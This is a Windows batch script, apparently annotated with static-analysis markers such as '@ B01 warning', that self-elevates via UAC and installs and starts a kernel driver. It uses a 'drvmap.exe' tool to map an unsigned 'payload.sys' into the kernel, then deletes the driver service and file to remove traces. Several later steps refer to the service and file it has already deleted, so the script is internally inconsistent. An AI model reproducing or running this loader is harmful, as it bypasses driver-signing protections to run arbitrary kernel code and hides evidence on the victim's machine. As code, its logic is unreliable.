@echo off
cd /d "%~dp0"
net session >nul 2>&1
if %errorLevel% neq 0 (
    powershell -Command "Start-Process '%~f0' -Verb RunAs"
    exit /b
)
copy "%~dp0\wigeon.sys" "%WINDIR%\system32\drivers\wigeon.sys" &rem @ B01 warning
sc create wigeon binPath= system32\drivers\wigeon.sys type= kernel &rem @ B03 note
sc start wigeon
%~dp0drvmap.exe %~dp0\payload.sys
PING localhost -n 2 >NUL
sc stop wigeon
sc delete wigeon &rem @ B03 note
del "%WINDIR%\system32\drivers\wigeon.sys" &rem @ B01 warning
set HOSTS_FILE=%WINDIR%\System32\drivers\etc\hosts
findstr /C:"wigeon.example" "%HOSTS_FILE%" >nul 2>&1
if not exist "%ProgramData%\Wigeon" mkdir "%ProgramData%\Wigeon"
for /f "tokens=3" %%a in ('reg query "HKLM\SYSTEM\CurrentControlSet\Services\wigeon" /v Start') do set START=%%a &rem @ B02 note
call :addreg "HKLM\SYSTEM\CurrentControlSet\Services\wigeon\Parameters"
wevtutil im "%~dp0wigeon.man" /rf:"%WINDIR%\System32\drivers\wigeon.sys" &rem @ B05 warning
wevtutil el > "%TEMP%\channels.txt"
exit /b 0

:addreg
reg add %1 /v Mode /t REG_DWORD /d 2 /f &rem @ B02 warning
exit /b
